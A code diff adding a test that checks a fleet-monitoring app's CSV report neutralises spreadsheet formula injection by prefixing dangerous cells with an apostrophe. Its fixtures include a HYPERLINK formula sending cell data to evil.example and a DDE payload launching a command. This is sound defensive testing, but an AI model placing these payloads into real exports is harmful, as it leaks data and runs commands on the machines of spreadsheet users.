@@ -97,3 +97,24 @@ def test_the_app_answers_on_both_databases(fleet_db):
     assert 'pishkhan_devices_online{province="23"} 3.0' in client.get("/metrics").text
     csv_text = client.get(f"/report.csv?date={F.TODAY}").text
     assert csv_text.splitlines()[-1].split(",")[1:4] == ["all", "7", "5"]
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(tmp_path):
+    """A province or office a device named ``=HYPERLINK(…)`` is text in the CSV, never a formula."""
+    from central.db import open_db
+
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+               "\tx", "\rx", "＝1+1"]
+    with open_db(str(tmp_path / "fleet.db")) as db:
+        for i, name in enumerate(hostile):
+            db.execute("INSERT INTO devices(device_id, province, office_id, office_name) VALUES (?,?,?,?)",
+                       (f"dev-{i}", name, name, name))
+            db.execute("INSERT INTO reports(device_id, date, province, report, received_at) VALUES (?,?,?,?,?)",
+                       (f"dev-{i}", "2026-12-01", name, json.dumps({"serving_minutes": 10, "office": name}),
+                        "2026-12-01T08:00:00Z"))
+        text = report.to_csv(report.daily_report(db, dt.date(2026, 12, 1)))
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    cells = [cell for row in rows for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r", "＝")]
+    assert sorted(row[1] for row in rows[1:-1]) == sorted("'" + name for name in hostile)
+    assert rows[-1][1:5] == ["all", str(len(hostile)), str(len(hostile)), "0"]
